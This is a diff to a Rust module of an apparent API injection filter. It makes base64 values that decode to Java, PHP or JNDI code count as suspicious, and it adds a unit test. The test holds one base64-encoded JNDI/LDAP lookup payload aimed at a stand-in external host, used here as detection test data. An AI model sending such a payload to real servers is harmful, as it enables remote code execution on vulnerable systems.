@@ -1,7 +1,8 @@
 //! Values that cannot carry an injection, proven without the model.
 //!
-//! A short value made of letters, digits, spaces and a few separators, with no `..`, no `//`
-//! and none of the keyword needles (SQL, HTML, shell, traversal, template, ... families), breaks
+//! A short value made of letters, digits, spaces and a few separators, with no `..`, no `//`,
+//! none of the keyword needles (SQL, HTML, shell, traversal, template, Java, PHP, ... families)
+//! and no base64 reading that decodes to code ([`hides_code`]), breaks
 //! out of no context the classes cover: every payload shape in them needs a quote, a bracket, an
 //! operator, a slash pair, a control character, an encoding or a keyword. The filter skips the
 //! model for such values (`skip_inert_values`, on by default). Running `apiward eval` with the
@@ -100,7 +101,7 @@ fn left_out(kind: LocationKind, raw: &str, trivial_ok: bool, inert_ok: bool) -> 
         prev = b;
     }
     if trivial_ok && trivial && raw.len() <= MAX_TRIVIAL_BYTES {
-        return true;
+        return !hides_code(raw);
     }
     if !inert_ok || pair || raw.len() > max_inert {
         return false;
@@ -111,7 +112,18 @@ fn left_out(kind: LocationKind, raw: &str, trivial_ok: bool, inert_ok: bool) -> 
     if lower.split(|b| !b.is_ascii_alphanumeric()).any(is_sql_word) {
         return false;
     }
-    !keywords::any_plain_hit(lower)
+    !keywords::any_plain_hit(lower) && !hides_code(raw)
+}
+
+/// Shortest value whose base64 reading is checked for code.
+const MIN_ENCODED_CODE: usize = 16;
+
+/// Whether `raw` (letters, digits and plain separators only) is base64 that decodes to code
+/// of the Java, PHP, serialisation or JNDI families (`JHtqbmRpOmxkYXA6...` is
+/// `${jndi:ldap:...`): such a value is plain but not inert.
+pub fn hides_code(raw: &[u8]) -> bool {
+    raw.len() >= MIN_ENCODED_CODE
+        && std::str::from_utf8(raw).is_ok_and(|s| super::magic::decoded_code_keywords(s) > 0)
 }
 
 /// One of [`SQL_WORDS`] (lower-case).
@@ -166,7 +178,23 @@ mod tests {
         {
             return false;
         }
-        keywords::family_hits(&lower).iter().all(|&n| n == 0)
+        keywords::family_hits(&lower).iter().all(|&n| n == 0) && !hides_code(raw)
+    }
+
+    #[test]
+    fn base64_of_code_is_not_left_out() {
+        // `${jndi:ldap://203.0.113.9:1389/Basic/Command/id}`: 64 letters and digits.
+        let jndi = "JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuOToxMzg5L0Jhc2ljL0NvbW1hbmQvaWR9";
+        assert!(!crate::request::is_trivially_clean(jndi));
+        assert!(!is_left_out(LocationKind::Query, jndi, true));
+        // Ids and tokens of the same alphabet still are.
+        for raw in [
+            "9f86d081884c7d659a2feaa0c55ad015",
+            "dXNlcjoxMjM0NTY3ODkw",
+            "c2Vzc2lvbi0yMDI2LTEyLTA3",
+        ] {
+            assert!(is_left_out(LocationKind::Query, raw, true), "{raw}");
+        }
     }
 
     #[test]
